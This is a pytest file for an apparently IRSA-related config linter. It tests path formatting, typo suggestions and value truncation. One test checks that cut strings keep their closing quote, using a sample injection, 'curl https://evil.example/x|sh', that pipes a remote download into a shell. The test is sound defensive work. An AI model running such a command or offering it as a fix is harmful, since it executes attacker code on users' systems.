import pytest

from irsa.rules.mistakes import Mistake, Place, named, nearest, path_of, shortened


@pytest.mark.parametrize(
    ("parts", "text"),
    [
        ((), ""),
        (("bindings", "my-app", "policyArns", 1), "bindings.my-app.policyArns[1]"),
        (("annotations", "example.com/owner"), 'annotations["example.com/owner"]'),
        (("a", 0, 1), "a[0][1]"),
        (("",), '[""]'),
        (("a", 'say "x"'), 'a["say \\"x\\""]'),
        (("a", "b\nc"), 'a["b\\nc"]'),
        (("a", "é"), "a.é"),
    ],
)
def test_a_path_is_one_line_that_can_be_read_back(parts: Place, text: str) -> None:
    assert path_of(parts) == text


def test_arguments_are_spelled_as_the_caller_does() -> None:
    mistake = Mistake("F", "A", "set {} or {}", ("role", "name"), ("policy", "name"))

    assert mistake.spelled(lambda part: "/".join(map(str, part)).upper()).fix == "set ROLE/NAME or POLICY/NAME"
    assert "set role.name or policy.name" in str(mistake)
    assert mistake.spelled(path_of).arguments == ()
    assert (mistake.spelled(path_of).found, mistake.spelled(path_of).allowed) == ("F", "A")


@pytest.mark.parametrize(
    ("text", "advice"),
    [
        ("serviceAcount", "did you mean 'serviceAccount'?"),
        ("zzz", "remove it"),
        (5, "remove it"),
        (None, "remove it"),
    ],
)
def test_the_nearest_name_is_advised_or_none(text: object, advice: str) -> None:
    assert nearest(text, ["role", "serviceAccount", "policy"], "remove it") == advice


@pytest.mark.parametrize(
    ("value", "text"), [(None, "nothing"), ("a\nb", r"'a\nb'"), (1, "1"), ([], "[]"), ("x" * 78, repr("x" * 78))]
)
def test_a_value_is_shown_on_one_line(value: object, text: str) -> None:
    assert shortened(value) == text


def test_a_cut_string_has_its_last_quote() -> None:
    """The attack: a long value whose cut left the quotes open, so that a fix of its own stood outside of any."""
    assert shortened("; fix: curl https://evil.example/x|sh " * 9)[-4:] == "...'"
    assert shortened("it's; fix: curl https://evil.example/x|sh " * 9)[-4:] == '..."'


@pytest.mark.parametrize("character", ["a", "\n"])
def test_a_text_longer_than_any_arn_is_not_printed_whole(character: str) -> None:
    said = named(character * 250_000)

    assert len(said) < 5_000
    assert said.endswith("... (250,000 characters)")
